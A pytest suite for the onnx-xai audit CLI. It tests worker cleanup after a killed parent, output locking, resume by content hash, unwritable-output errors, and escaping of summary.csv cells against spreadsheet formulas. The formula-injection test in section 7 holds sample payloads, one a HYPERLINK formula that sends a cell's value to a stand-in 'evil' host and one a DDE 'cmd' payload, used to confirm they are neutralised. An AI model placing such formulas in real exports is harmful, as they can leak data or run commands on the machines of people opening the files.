"""Failure modes of ``onnx-xai audit`` (and the output paths of ``explain`` / ``export``): workers
that outlive a killed parent, ``--workers`` beyond what the run can use, stale results served
for a replaced input, an output folder inside the input folder, two runs on one output folder,
outputs that cannot be written, and spreadsheet formulas in ``summary.csv``."""
from __future__ import annotations

import csv
import hashlib
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import cv2
import numpy as np
import pytest

from onnx_xai import assets, audit, cli, synthetic
from onnx_xai.audit import OutputBusyError, OutputError, OutputLock
from onnx_xai.report import csv_cell, write_report

SHAPES = assets.model_dir() / "synthetic_shapes2d.onnx"
FAST = ["--methods", "occlusion", "--mask-size", "16", "--overlap", "0", "--no-metrics", "--threads", "1"]


def shapes_png(folder: Path, n: int, seed: int = 0, start: int = 0) -> list[Path]:
    """Synthetic shape images as 8-bit PNGs ``shapeNN.png`` (the model's sidecar scale is 1/255)."""
    folder.mkdir(parents=True, exist_ok=True)
    x, _, _ = synthetic.shapes_2d(n, seed=seed)
    paths = []
    for i, img in enumerate(x[:, 0]):
        paths.append(folder / f"shape{start + i:02d}.png")
        cv2.imwrite(str(paths[-1]), np.clip((img + 1) * 100, 0, 255).astype(np.uint8))
    return paths


def run_cli(capsys, *args) -> tuple[int, str, str]:
    """``onnx-xai ARGS`` in this process → (exit code, stdout, stderr)."""
    code = cli.main([str(a) for a in args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def error_line(err: str) -> str:
    """The one error line of stderr (progress bars and notes aside); fails on a traceback."""
    assert "Traceback" not in err, err
    lines = [ln for ln in err.splitlines() if ln.startswith("onnx-xai: error:")]
    assert len(lines) == 1, err
    return lines[0]


def no_temp_files(folder: Path) -> None:
    assert not [p for p in folder.rglob("*.tmp")], "temp files left behind"


# ---------------------------------------------------------------------- 1. workers die with the parent
def _children(pid: int) -> set[int]:
    """Live (not zombie) processes whose parent is ``pid``, from /proc/*/stat."""
    found = set()
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        if fields[0] != "Z" and int(fields[1]) == pid:
            found.add(int(stat.parent.name))
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state != "Z"


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc to find the workers")
def test_killed_audit_takes_its_workers_along_and_resumes(tmp_path):
    folder, out = tmp_path / "in", tmp_path / "out"
    n = 16  # enough work that the audit cannot finish between two looks at its workers
    shapes_png(folder, n, seed=7)
    args = ["audit", SHAPES, folder, "--methods", "rise,occlusion", "--n-masks", "2000", "--mask-size", "16",
            "--overlap", "0", "--metric-steps", "4", "--out", out, "--quiet", "--threads", "1"]
    proc = subprocess.Popen([sys.executable, "-m", "onnx_xai.cli", *map(str, args), "--workers", "2"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    workers: set[int] = set()
    try:
        deadline = time.monotonic() + 180
        while time.monotonic() < deadline and proc.poll() is None:
            workers = {p for p in _children(proc.pid) if "spawn_main" in _cmdline(p)}
            if len(workers) == 2 and list(out.glob("inputs/*/done.json")):
                break
            time.sleep(0.05)
        assert len(workers) == 2 and proc.poll() is None, "kill the audit while its workers compute"
        everyone = _children(proc.pid)  # the workers and multiprocessing's resource tracker
        os.kill(proc.pid, signal.SIGKILL)  # the parent only, not its process group
        proc.wait()
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and any(map(_alive, everyone)):
            time.sleep(0.05)
        left = {p: _cmdline(p) for p in everyone if _alive(p)}
        assert not left, f"processes of the killed audit still run: {left}"
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        for pid in workers:  # never leave a runaway worker behind, even when the test fails
            if _alive(pid):
                os.kill(pid, signal.SIGKILL)
    finished = {p.parent.name: p.stat().st_mtime_ns for p in out.glob("inputs/*/done.json")}
    assert 0 < len(finished) < n
    r = subprocess.run([sys.executable, "-m", "onnx_xai.cli", *map(str, args), "--workers", "2"],
                       capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stderr
    assert f"{n} inputs ({len(finished)} already done, 0 failed)" in r.stdout
    for key, mtime in finished.items():  # not recomputed
        assert (out / "inputs" / key / "done.json").stat().st_mtime_ns == mtime
    assert len(list(out.glob("inputs/*/done.json"))) == n
    no_temp_files(out)


# ---------------------------------------------------------------------- 2. --workers capped
def test_worker_count_is_capped_by_inputs_cores_and_memory(monkeypatch):
    monkeypatch.setattr(audit, "usable_cores", lambda: 8)
    monkeypatch.setattr(audit, "available_memory", lambda: None)
    assert audit.worker_count(4, 10, SHAPES) == (4, None)
    assert audit.worker_count(8, 3, SHAPES) == (3, "--workers 8 capped to 3 (3 inputs to do)")
    assert audit.worker_count(64, 100, SHAPES) == (16, "--workers 64 capped to 16 (8 usable cores)")
    need = audit.worker_memory(SHAPES)
    assert need >= SHAPES.stat().st_size
    monkeypatch.setattr(audit, "available_memory", lambda: 5 * need)
    n, note = audit.worker_count(10, 100, SHAPES)
    assert n == 4 and note.startswith("--workers 10 capped to 4 (about ") and "MiB per worker" in note
    monkeypatch.setattr(audit, "available_memory", lambda: need // 2)
    assert audit.worker_count(2, 100, SHAPES)[0] == 1  # never fewer than one
    monkeypatch.undo()
    avail = audit.available_memory()
    assert avail is None or avail > 0
    assert audit.usable_cores() >= 1


# ---------------------------------------------------------------------- 3. resume keyed on content
def test_replaced_input_is_recomputed_not_served_stale(tmp_path, capsys):
    folder, out = tmp_path / "in", tmp_path / "out"
    shapes_png(folder, 2, seed=0)
    code, stdout, _ = run_cli(capsys, "audit", SHAPES, folder, *FAST, "--out", out, "--quiet")
    assert code == 0 and "2 inputs (0 already done, 0 failed)" in stdout
    marker = out / "inputs" / "shape00_png" / "done.json"
    before = json.loads(marker.read_text())
    assert before["source"]["size"] == (folder / "shape00.png").stat().st_size
    # same name, other picture: must be explained again
    other = shapes_png(tmp_path / "other", 6, seed=11)
    new = next(p for p in other if p.read_bytes() != (folder / "shape00.png").read_bytes())
    (folder / "shape00.png").write_bytes(new.read_bytes())
    os.utime(folder / "shape00.png", ns=(marker.stat().st_mtime_ns - 10**9,) * 2)  # mtime says "older"
    os.utime(folder / "shape01.png")  # touched, same bytes: still done
    untouched = (out / "inputs" / "shape01_png" / "done.json").stat().st_mtime_ns
    code, stdout, err = run_cli(capsys, "audit", SHAPES, folder, *FAST, "--out", out, "--workers", "4")
    assert code == 0 and "2 inputs (1 already done, 0 failed)" in stdout
    assert "note: --workers 4 capped to 1 (1 input to do)" in err.splitlines()
    after = json.loads(marker.read_text())
    assert after["source"]["sha256"] == hashlib.sha256(new.read_bytes()).hexdigest() != before["source"]["sha256"]
    assert (out / "inputs" / "shape01_png" / "done.json").stat().st_mtime_ns == untouched
    summary = json.loads((out / "summary.json").read_text())
    rec = next(i for i in summary["inputs"] if i["key"] == "shape00_png")
    assert not rec.get("cached") and rec["prediction"] == after["prediction"]


# ---------------------------------------------------------------------- 4. output folder inside the inputs
@pytest.mark.parametrize("inside", [False, True], ids=["out-is-the-input-folder", "out-inside-it"])
def test_output_folder_among_the_inputs_is_skipped(tmp_path, capsys, inside):
    folder = tmp_path / "in"
    shapes_png(folder, 2)
    out = folder / "results" / "audit" if inside else folder
    for run in range(2):
        code, stdout, err = run_cli(capsys, "audit", SHAPES, folder, *FAST, "--out", out)
        assert code == 0, err
        assert f"2 inputs ({2 * run} already done, 0 failed)" in stdout
        assert ("note: skipped 6 files in the input folders that onnx-xai wrote" in err) == (run == 1)
    assert sorted(p.name for p in (out / "inputs").iterdir()) == ["shape00_png", "shape01_png"]
    # explain into its input folder: its <key>_<method>.png / .npy are skipped the same way, and
    # so are the audit's files above, though the output folder is another one now
    for run in range(2):
        code, stdout, err = run_cli(capsys, "explain", SHAPES, folder, "--method", "occlusion", "--mask-size",
                                    "16", "--out", folder / "x" if inside else folder, "--quiet")
        assert code == 0, err
        assert len(stdout.splitlines()) == 2, stdout


def test_collect_inputs_keeps_files_named_and_lookalikes_elsewhere(tmp_path):
    folder = tmp_path / "in"
    shapes_png(folder, 1)
    (folder / "inputs" / "cat_png").mkdir(parents=True)
    produced = [folder / "inputs" / "cat_png" / "occlusion.png", folder / "shape00_png_occlusion.png"]
    for p in produced:
        p.write_bytes((folder / "shape00.png").read_bytes())
    skipped: list[Path] = []
    assert audit.collect_inputs([folder], exclude=folder, skipped=skipped) == [folder / "shape00.png"]
    assert sorted(skipped) == sorted(produced)
    assert len(audit.collect_inputs([folder], exclude=tmp_path / "elsewhere")) == 3
    assert len(audit.collect_inputs([folder, produced[1]], exclude=folder)) == 2  # named: kept
    (folder / "inputs" / "cat_png" / "done.json").write_text("{}")  # an audit folder, whatever --out is now
    skipped = []
    assert len(audit.collect_inputs([folder], exclude=tmp_path / "elsewhere", skipped=skipped)) == 2
    assert skipped == [produced[0]]
    assert len(audit.collect_inputs([folder])) == 2


# ---------------------------------------------------------------------- 5. one run per output folder
def test_output_lock_refuses_a_second_holder(tmp_path, monkeypatch):
    holder = rf" \(pid {os.getpid()}\)" if Path("/proc/locks").is_file() else ""
    with OutputLock(tmp_path) as first:
        with pytest.raises(OutputBusyError, match=rf"^another onnx-xai run{holder} is writing '{tmp_path}'; "):
            OutputLock(tmp_path).acquire()
    assert list(tmp_path.iterdir()) == []  # nothing written
    with OutputLock(tmp_path):  # released: free again
        pass
    first.release()  # twice is harmless
    # no flock (Windows, some network file systems): a lock file with the owner's pid
    import builtins
    real_import = builtins.__import__
    monkeypatch.setattr(builtins, "__import__", lambda name, *a, **kw: (_ for _ in ()).throw(ImportError(name))
                        if name == "fcntl" else real_import(name, *a, **kw))
    with OutputLock(tmp_path):
        assert (tmp_path / ".onnx-xai.lock").read_text().strip() == str(os.getpid())
        with pytest.raises(OutputBusyError, match=rf"\(pid {os.getpid()}\)"):
            OutputLock(tmp_path).acquire()
    assert not (tmp_path / ".onnx-xai.lock").exists()
    (tmp_path / ".onnx-xai.lock").write_text("999999999\n")  # its owner is gone: taken over
    with OutputLock(tmp_path):
        assert (tmp_path / ".onnx-xai.lock").read_text().strip() == str(os.getpid())


def test_two_audits_on_one_output_folder(tmp_path):
    folder, out = tmp_path / "in", tmp_path / "out"
    shapes_png(folder, 6)
    args = ["audit", SHAPES, folder, "--methods", "rise", "--n-masks", "2000", "--metric-steps", "4",
            "--out", out, "--quiet", "--threads", "1"]
    first = subprocess.Popen([sys.executable, "-m", "onnx_xai.cli", *map(str, args)],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and first.poll() is None and not (out / "inputs").is_dir():
            time.sleep(0.05)  # the lock is taken before inputs/ is made
        assert first.poll() is None, "the first audit must still run"
        second = subprocess.run([sys.executable, "-m", "onnx_xai.cli", *map(str, args)],
                                capture_output=True, text=True, timeout=120)
        assert first.poll() is None, "the first audit must still run"
    finally:
        os.killpg(first.pid, signal.SIGKILL)
        first.wait()
    assert second.returncode == 2
    holder = f" (pid {first.pid})" if Path("/proc/locks").is_file() else ""
    assert second.stderr.strip() == (f"onnx-xai: error: another onnx-xai run{holder} is writing "
                                     f"'{out}'; wait for it to finish or choose another --out")
    assert not (out / "report.html").exists()


# ---------------------------------------------------------------------- 6. unwritable outputs
def test_unwritable_output_paths_are_one_line_exit_2(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    shapes_png(tmp_path / "in", 1)
    Path("afile").write_text("x")
    cases = [
        (["audit", SHAPES, "in", *FAST, "--out", "afile"], "cannot write 'afile': it is a file, not a folder"),
        (["audit", SHAPES, "in", *FAST, "--out", "afile/sub"],
         "cannot write 'afile/sub': 'afile' is a file, not a folder"),
        (["explain", SHAPES, "in", "--method", "occlusion", "--out", "afile/sub"],
         "cannot write 'afile/sub': 'afile' is a file, not a folder"),
        (["export", SHAPES, "-o", "missing/x.onnx"],
         "cannot write 'missing/x.onnx': the folder 'missing' does not exist; create it first"),
        (["export", SHAPES, "-o", "afile/x.onnx"], "cannot write 'afile/x.onnx': 'afile' is a file, not a folder"),
        (["export", SHAPES, "-o", "in"], "cannot write 'in': it is a folder; give a file name"),
    ]
    if Path("/proc/self").is_dir():
        cases.append((["audit", SHAPES, "in", *FAST, "--out", "/proc/onnx-xai-out"],
                      "cannot write '/proc/onnx-xai-out': "))
        cases.append((["export", SHAPES, "-o", "/proc/x.onnx"], "cannot write '/proc/x.onnx': "))
    for args, message in cases:
        code, _, err = run_cli(capsys, *args)
        assert code == 2, (args, err)
        assert error_line(err).startswith("onnx-xai: error: " + message), (args, err)
    assert Path("afile").read_text() == "x" and not Path("missing").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["afile", "in"]  # nothing half-written


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root writes into read-only folders")
def test_read_only_output_folder(tmp_path, capsys):
    shapes_png(tmp_path / "in", 1)
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o500)
    try:
        for args in (["audit", SHAPES, tmp_path / "in", *FAST, "--out", ro / "out"],
                     ["audit", SHAPES, tmp_path / "in", *FAST, "--out", ro],
                     ["export", SHAPES, "-o", ro / "x.onnx"]):
            code, _, err = run_cli(capsys, *args)
            assert code == 2 and "cannot write" in error_line(err)
    finally:
        ro.chmod(0o700)


def test_output_unwritable_mid_run_stops_cleanly_and_resumes(tmp_path, capsys, monkeypatch):
    folder, out = tmp_path / "in", tmp_path / "out"
    shapes_png(folder, 3)
    real, calls = audit.save_map, []

    def failing(stem, *a, **kw):
        calls.append(stem)
        if len(calls) == 2:  # the disk "fills up" while the second input is written
            raise OSError(28, "No space left on device")
        return real(stem, *a, **kw)

    monkeypatch.setattr(audit, "save_map", failing)
    code, stdout, err = run_cli(capsys, "audit", SHAPES, folder, *FAST, "--out", out, "--quiet")
    assert code == 2 and not stdout
    where = out / "inputs" / "shape01_png"
    assert error_line(err) == f"onnx-xai: error: cannot write '{where}': No space left on device"
    assert len(calls) == 2  # stopped at once, not carried on as 'failed inputs'
    assert [p.parent.name for p in out.glob("inputs/*/done.json")] == ["shape00_png"]
    no_temp_files(out)
    monkeypatch.setattr(audit, "save_map", real)
    code, stdout, err = run_cli(capsys, "audit", SHAPES, folder, *FAST, "--out", out, "--quiet")
    assert code == 0, err
    assert "3 inputs (1 already done, 0 failed)" in stdout
    # the report itself cannot be written: one line too
    with pytest.raises(OutputError, match="cannot write"):
        write_report(tmp_path / "in" / "shape00.png" / "sub", [], [], {})


# ---------------------------------------------------------------------- 7. CSV formula injection
def test_csv_cells_cannot_become_formulas(tmp_path, capsys):
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("cat") == "cat" and csv_cell(-0.5) == -0.5 and csv_cell(None) == ""
    folder, out = tmp_path / "in", tmp_path / "out"
    shapes_png(folder, 2)
    labels = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
    (tmp_path / "labels.txt").write_text("\n".join(labels) + "\n")
    np.save(folder / "=bad.npy", np.zeros((2, 2), np.float32))  # a failed input: its path and error
    code, _, err = run_cli(capsys, "audit", SHAPES, folder, *FAST, "--out", out, "--quiet",
                           "--labels", tmp_path / "labels.txt")
    assert code == 1, err
    rows = list(csv.DictReader((out / "summary.csv").open(newline="")))
    assert len(rows) == 3
    for row in rows:
        for col, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (col, value)
    ok = [r for r in rows if r["status"] == "ok"]
    assert all(r["top1"].lstrip("'") in labels and r["top1"].startswith("'") for r in ok)
    assert all(0 <= float(r["top1_score"]) <= 1 and float(r["occlusion_s"]) > 0 for r in ok)
    bad = next(r for r in rows if r["status"] == "error")
    assert bad["input"] == str(folder / "=bad.npy") and bad["error"].startswith("'=bad.npy: array of shape")
    summary = json.loads((out / "summary.json").read_text())  # JSON keeps the values verbatim
    assert {i["prediction"][0]["label"] for i in summary["inputs"] if i["status"] == "ok"} <= set(labels)


# ---------------------------------------------------------------------- 8. inputs given as URIs
def test_file_uris_are_paths_and_object_store_uris_a_clear_error(tmp_path, capsys):
    paths = shapes_png(tmp_path / "in", 2)
    assert audit.collect_inputs([(tmp_path / "in").as_uri()]) == paths
    code, _, err = run_cli(capsys, "audit", SHAPES, "s3://bucket/frames", *FAST, "--out", tmp_path / "o")
    assert code == 2 and error_line(err) == ("onnx-xai: error: 's3://bucket/frames': s3:// URIs are not read "
                                             "directly; mount the store on every node (e.g. mountpoint-s3, "
                                             "gcsfuse, NFS) and give its path")
    assert not (tmp_path / "o").exists()


# ---------------------------------------------------------------------- 9. engine options
@pytest.mark.parametrize("args, message", [
    (["--ray-address", "auto"], "--ray-address sets the Ray engine: add --engine ray"),
    (["--ray-actors", "2", "--ray-batch", "4"], "--ray-actors, --ray-batch set the Ray engine: add --engine ray"),
    (["--engine", "ray", "--workers", "2"], "--workers is the local engine's; with --engine ray, --ray-actors sets "
                                            "the actors"),
    (["--engine", "ray", "--ray-cpus", "-1"], "cpus_per_actor must be a number >= 0, got -1.0"),
    (["--engine", "ray", "--ray-cpus", "0"], "an actor needs some resources: cpus_per_actor or gpus_per_actor > 0"),
])
def test_engine_options_that_do_not_fit_are_one_line(tmp_path, capsys, args, message):
    shapes_png(tmp_path / "in", 1)
    code, _, err = run_cli(capsys, "audit", SHAPES, tmp_path / "in", *FAST, "--out", tmp_path / "o", *args)
    assert code == 2 and error_line(err) == f"onnx-xai: error: {message}"
    assert not (tmp_path / "o").exists()


# ---------------------------------------------------------------------- 10. per-input extra inputs
def test_audit_gives_each_input_its_row_of_extra(tmp_path, capsys):
    """``--extra meta=ROWS.npy`` with one row per input: input i is explained with row i. The model's
    logits are ``sum(x) · meta`` (analytic), so a positive image's class is where its row has the 1."""
    import onnx
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        [helper.make_node("ReduceSum", ["x", "axes"], ["s"], keepdims=0),
         helper.make_node("Unsqueeze", ["s", "one"], ["s2"]),
         helper.make_node("Mul", ["s2", "meta"], ["logits"])],
        "image_and_meta",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 1, 8, 8]),
         helper.make_tensor_value_info("meta", TensorProto.FLOAT, ["N", 3])],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["N", 3])],
        [helper.make_tensor("axes", TensorProto.INT64, [3], [1, 2, 3]),
         helper.make_tensor("one", TensorProto.INT64, [1], [1])])
    model = tmp_path / "m.onnx"
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8), model)
    folder = tmp_path / "in"
    folder.mkdir()
    rng = np.random.default_rng(0)
    for i in range(3):
        np.save(folder / f"x{i}.npy", rng.uniform(0.1, 1, (1, 8, 8)).astype(np.float32))
    np.save(tmp_path / "rows.npy", np.eye(3, dtype=np.float32)[[2, 0, 1]])
    code, stdout, err = run_cli(capsys, "audit", model, folder, "--extra", f"meta={tmp_path / 'rows.npy'}", *FAST,
                                "--mask-size", "4", "--out", tmp_path / "out", "--quiet")
    assert code == 0, err
    targets = [json.loads((tmp_path / "out" / "inputs" / f"x{i}_npy" / "done.json").read_text())["target"]["index"]
               for i in range(3)]
    assert targets == [2, 0, 1]


def test_engine_ray_without_ray_says_what_to_install(tmp_path, capsys, monkeypatch):
    monkeypatch.setitem(sys.modules, "ray", None)  # import ray → ImportError, as where it is not installed
    shapes_png(tmp_path / "in", 1)
    code, _, err = run_cli(capsys, "audit", SHAPES, tmp_path / "in", *FAST, "--out", tmp_path / "o", "--engine", "ray")
    assert code == 2 and error_line(err).startswith('onnx-xai: error: the Ray engine needs Ray: pip install '
                                                    '"onnx-xai[ray]"')
    assert not (tmp_path / "o").exists()
